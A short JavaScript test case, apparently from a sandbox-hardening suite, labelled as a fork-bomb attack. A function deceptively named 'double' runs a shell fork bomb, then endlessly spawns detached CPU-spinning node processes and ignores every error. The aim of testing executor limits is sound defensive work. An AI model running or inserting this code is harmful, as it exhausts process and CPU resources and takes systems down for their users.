// attack: fork bomb through child_process: spawn node and shell fork bombs without end, ignoring
//   every error, from the function under test
// expect: timeout, no_report, runtime_error
// local-needs: root
// limits: processes=32
const { spawn, spawnSync } = require('child_process');

function double(x) {
  try {
    spawnSync('/bin/sh', ['-c', 'b() { b | b & }; b'], { timeout: 200 });
  } catch (error) {
    // keep going
  }
  for (;;) {
    try {
      spawn(process.execPath, ['-e', 'for(;;){}'], { detached: true, stdio: 'ignore' }).on('error', () => {});
    } catch (error) {
      // keep going
    }
  }
}
